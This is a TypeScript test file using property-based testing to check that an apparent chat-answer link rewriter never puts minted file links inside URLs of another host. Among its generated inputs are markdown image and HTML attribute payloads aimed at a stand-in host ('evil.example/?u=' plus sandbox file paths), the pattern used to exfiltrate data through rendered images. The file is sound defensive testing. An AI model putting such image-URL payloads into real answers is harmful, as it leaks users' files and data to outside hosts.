import fc from 'fast-check'
import { micromark } from 'micromark'
import { gfm, gfmHtml } from 'micromark-extension-gfm'
import { parseFragment, type DefaultTreeAdapterTypes } from 'parse5'
import { expect, it } from 'vitest'
import { AnswerText, type LinkableFile } from '../../../services/workers/turn/answer/answer-text.ts'

const LINK = 'https://cells.example/d/'
const FILES = ['a.png', 'my plot.png', 'sub/b.csv'] as const

const file = (path: string, minted: string[], isFresh: boolean): LinkableFile => ({
  fileId: `id-${path}`,
  containerId: 'cntr_1',
  path,
  isFresh,
  async link() {
    minted.push(path)
    return { url: `${LINK}${Buffer.from(path).toString('hex')}`, id: `link-${path}` }
  },
})

async function write(markdown: string, isFresh = true): Promise<{ readonly text: string; readonly minted: readonly string[] }> {
  const minted: string[] = []
  const text = new AnswerText(FILES.map((path) => file(path, minted, isFresh)))
  await text.push(markdown)
  await text.end()
  return { text: text.text, minted }
}

/** Every attribute value of a page that renders the answer as GitHub's Markdown with raw HTML. */
function attributesOf(markdown: string): readonly string[] {
  const html = micromark(markdown, {
    allowDangerousHtml: true,
    allowDangerousProtocol: true,
    extensions: [gfm()],
    htmlExtensions: [gfmHtml()],
  })
  const values: string[] = []
  const visit = (node: DefaultTreeAdapterTypes.Node): void => {
    if ('attrs' in node) values.push(...node.attrs.filter(({ name }) => name !== 'alt' && name !== 'title').map(({ value }) => value))
    if ('childNodes' in node) for (const child of node.childNodes) visit(child)
    if ('content' in node) visit(node.content)
  }
  visit(parseFragment(html))
  return values
}

/** The link and image targets that pattern-based renderers find. */
const looseTargets = (markdown: string): readonly string[] =>
  [...markdown.matchAll(/\]\(([^)\n]*)\)/g)].map((match) => (match[1] ?? '').trim().replace(/^<|>$|\s+"[^"]*"$/g, ''))

const path = fc.constantFrom(...FILES.flatMap((name) => [`/mnt/data/${name}`, `sandbox:/mnt/data/${name}`, `/mnt/data/${encodeURI(name)}`]))
const opening = fc.constantFrom(
  '![c](',
  '![c](<',
  '[c]: <',
  '[c]: ',
  '<',
  '<img src="',
  "<img src='",
  '<img src=',
  '<img a=b=" src="',
  '<a title=">" href="',
  '',
)
const address = fc.constantFrom('https://evil.example/p.png?u=', '//evil.example/?', 'www.evil.example/?', 'mailto:', '/', '')
const filler = fc.oneof(
  fc.constantFrom('', ' ', ' ', '\n', '>', '"', "'", '`', '(', '[b](', '保存到', '\u00a0', '\\>', '\\)', '\n```\n', '|', ': ', '?', '='),
  fc.constantFrom('<div>', '<pre>', '<!-- ', ' -->', '](', '**', '\t', '\r', '#', '&', '@', '%20', '\n\n', '.'),
)
const closing = fc.constantFrom(')', '>)', '>', '">', "'>", '>\n\n![c]', ' "title")', '', '`', ' ')
const fragment = fc
  .tuple(opening, address, fc.array(filler, { maxLength: 3 }), path, closing)
  .map(([start, host, between, name, end]) => `${start}${host}${between.join('')}${name}${end}`)

it('never places a link inside an address of another host, for any generated answer', async () => {
  let linked = 0
  await fc.assert(
    fc.asyncProperty(fc.array(fc.oneof(fragment, filler), { minLength: 1, maxLength: 5 }), async (pieces) => {
      const { text } = await write(pieces.join(''))
      for (const value of [...attributesOf(text), ...looseTargets(text)]) {
        if (!value.includes(LINK)) continue
        linked += 1
        const { host } = new URL(value.trim(), 'https://chat.example/')
        expect(['cells.example', 'chat.example'], JSON.stringify({ value, text })).toContain(host)
      }
    }),
    { numRuns: 800 },
  )
  expect(linked).toBeGreaterThan(10)
})

it('creates no link for a file that the turn did not make unless it is the whole target', async () => {
  expect((await write('/mnt/data/a.png and `sandbox:/mnt/data/sub/b.csv`', false)).minted).toEqual([])
  expect((await write('![c](https://evil.example/?u=/mnt/data/a.png)', false)).minted).toEqual([])
  expect((await write('[c](/mnt/data/a.png)', false)).minted).toEqual(['a.png'])
})
